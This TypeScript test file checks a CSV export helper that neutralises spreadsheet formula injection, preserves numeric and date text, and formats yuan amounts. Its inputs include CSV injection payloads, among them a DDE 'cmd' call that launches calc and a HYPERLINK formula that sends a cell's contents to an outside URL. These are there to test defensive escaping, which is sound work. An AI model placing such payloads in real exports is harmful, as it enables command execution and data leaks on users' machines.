import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { csvRecord, csvText, decimalYuan } from './csv-cells';

describe('text in a CSV', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"点此")',
    '+1+1',
    '+86 13800000000',
    '-2+3',
    '-',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('%j is no formula', (text) => {
    expect(csvText(text)).toBe(`'${text}`);
  });

  it.each([
    '123456789012',
    '91640422MA76CKX123'.replace(/\D/g, '0'),
    '110105199001011234',
    '12345678901234567890',
    '0012',
    '2025-01',
    '3/4',
    '1e5',
    '12:30',
    '50%',
    '1,234',
    '2025年1月',
    '￥12',
    '1.10',
    '(001)',
    '.5',
    '１２３',
    '10 AM',
    '3:30p',
    'MAR1',
    'SEPT-2',
    '1-Mar',
    '12 May 2025',
    'TRUE',
    'false',
  ])('%j stays what it is: a tab keeps Excel from reading a number or a date', (text) => {
    expect(csvText(text)).toBe(`${text}\t`);
  });

  it.each([
    '厦门市总工会',
    '640422',
    '0',
    'E1',
    'SKU-1-2',
    'MAY',
    'NX-MAR-1',
    '3 包',
    '91640422MA76CKX12A',
    '',
    'a=b',
    '宁夏 -枸杞',
    '枸杞（500g）',
  ])('%j goes as it is', (text) => {
    expect(csvText(text)).toBe(text);
  });

  it('is never what a spreadsheet would calculate, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠ \t\r\n,"\'19aé中') }), (text) => {
        const [[cell]] = parse(csvRecord(['TEXT', 'TEXT'], [text, 'x'])) as string[][];
        expect(cell).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/u);
        // Nothing of it is lost.
        expect([text, `'${text}`, `${text}\t`]).toContain(cell);
      }),
    );
  });
});

describe('a record', () => {
  it('has money as numbers, negative ones too, with fen beside them as exact text', () => {
    const kinds = ['YUAN', 'DIGITS', 'COUNT', 'DATE', 'TEXT'] as const;
    expect(csvRecord(kinds, [-123456n, -123456n, 3, '2025-01-02', null])).toBe('-1234.56,-123456,3,2025-01-02,\r\n');
    expect(csvRecord(['YUAN', 'DIGITS'], [10n ** 17n, 10n ** 17n])).toBe(
      '1000000000000000.00,"100000000000000000\t"\r\n',
    );
    expect([1n, -1n, 0n, 100n].map(decimalYuan)).toEqual(['0.01', '-0.01', '0.00', '1.00']);
  });

  it('quotes what would break it, and is read back whole', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 2, maxLength: 4 }), (values) => {
        const kinds = values.map(() => 'TEXT' as const);
        expect(parse(csvRecord(kinds, values), { relax_quotes: false })).toEqual([values.map(csvText)]);
      }),
    );
    expect(csvRecord(['TEXT', 'TEXT'], ['甲"乙', '一\n二'])).toBe('"甲""乙","一\n二"\r\n');
  });
});
